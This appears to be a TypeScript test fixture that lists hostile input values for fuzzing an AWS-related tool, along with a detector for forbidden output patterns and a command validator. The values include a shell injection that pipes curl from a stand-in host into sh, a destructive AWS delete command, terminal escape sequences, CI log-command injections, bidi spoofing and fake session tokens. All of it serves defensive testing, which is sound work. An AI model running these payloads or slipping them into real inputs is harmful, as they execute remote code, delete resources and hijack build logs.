// What somebody may write into any field that is his to write: a hostname, a tag, an error message, a condition's name. Every field and every output is tried with each.

export interface HostileValue {
  readonly what: string;
  readonly value: string;
}

/** What others wrote has this word in it; no command may. */
export const MARK = 'evil';

const TOKEN = `IQoJb3JpZ2luX2VjE${MARK}${'0123456789abcdefABCDEF+/'.repeat(20)}==`;

export const HOSTILE_VALUES: readonly HostileValue[] = [
  { what: 'an order to a shell', value: 'vpc-1;curl${IFS}evil.example|sh;#' },
  { what: 'quotes of a shell', value: `'; evil "$(evil)" '\\''evil'` },
  { what: 'a command between backticks', value: '`aws drs delete-source-server --source-server-id evil`' },
  { what: 'a backtick alone, and short', value: 'a`; evil' },
  { what: 'an option of a command', value: '--profile evil' },
  { what: 'a file for the AWS CLI to read', value: 'file:///etc/evil' },
  { what: 'orders to a terminal', value: '\x1b[2J\x1b]0;evil\x07\x9b31m\x1b]8;;https://evil.example\x1b\\evil\b\b\b\b\x7f' },
  { what: 'text that runs backwards, or is not to be seen', value: 'evil\u202egpj.exe\u2066\u200b\ufeff\u{e0041}\u2069' },
  { what: 'lines', value: 'evil\n::error::evil\r\n  ::set-output name=evil::1\u2028##vso[task.complete]evil\u2029\u0085evil' },
  { what: 'orders to GitHub', value: '::error file=evil::evil ::stop-commands::evil' },
  {
    what: 'orders to Azure Pipelines, TeamCity and the first GitHub',
    value: "##vso[task.setvariable variable=evil]1 ##[error]evil ##teamcity[evil 'x']",
  },
  { what: 'Markdown', value: '```\n# evil\n![evil](https://evil.example) <img src=x>\n~~~' },
  { what: 'a line of the log', value: '"}\n{"event":"decided","decision":"disconnected","evil":"' },
  { what: 'JSON', value: '","Status":"SUCCESS","PhysicalResourceId":"evil","x":"\\' },
  { what: 'a dynamic reference of a template', value: '{{resolve:secretsmanager:evil:SecretString}}' },
  { what: 'a substitution of a template', value: '${AWS::AccountId}${evil.Arn}' },
  { what: 'a policy variable of IAM', value: '${aws:PrincipalTag/evil}*?' },
  { what: 'NULs', value: '\0evil\0' },
  { what: 'halves of characters', value: '\ud83d\ude00\ud83devil\ude00' },
  { what: 'something very long', value: `${'evil '.repeat(20_000)}\u{1f6df}` },
  { what: 'a very long word', value: MARK.repeat(25_000) },
  { what: 'a key of a prototype', value: '__proto__' },
  { what: 'a token', value: `evil {"sessionToken":"${TOKEN}"} AWSAccessKeyId=ASIAEVILEVILEVIL1234 ${TOKEN}` },
  {
    what: 'a signed request',
    value:
      'evil does not match the signature you provided.\n\nThe Canonical String for this request should have been\n' +
      `'POST\n/\n\nx-amz-security-token:${TOKEN}\n'\n\nThe String-to-Sign should have been\n'AWS4-HMAC-SHA256\nevil'`,
  },
];

/** What no text that goes out may hold. */
const FORBIDDEN: readonly (readonly [what: string, pattern: RegExp])[] = [
  ['an order to a terminal, or a hidden character', /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u],
  ['an order to Azure Pipelines or TeamCity', /##/],
  ['an order to GitHub', /(^|\s)::\w/],
  ['a fence of Markdown', /```/],
  ['a token', /IQoJ|ASIAEVIL|x-amz-security-token:/],
];

/** What is wrong with a text that somebody is shown. */
export function wrongIn(text: string): string[] {
  const commands = Array.from(text.matchAll(/`([^`]*)`/g), ([, command = '']) => command);
  return [
    ...FORBIDDEN.filter(([, pattern]) => pattern.test(text)).map(([what]) => what),
    ...(text.split('`').length % 2 === 0 ? ['half a command'] : []),
    ...commands.flatMap(wrongInCommand),
  ];
}

/** What is wrong with a command. Words that aren't ours are IDs, or a question mark. */
export function wrongInCommand(command: string): string[] {
  return /^(aws|npx) [\w.,=@: +/-]*(?:'\?'[\w.,=@: +/-]*)*$/.test(command) && !command.includes(MARK) ? [] : [`the command ${command}`];
}
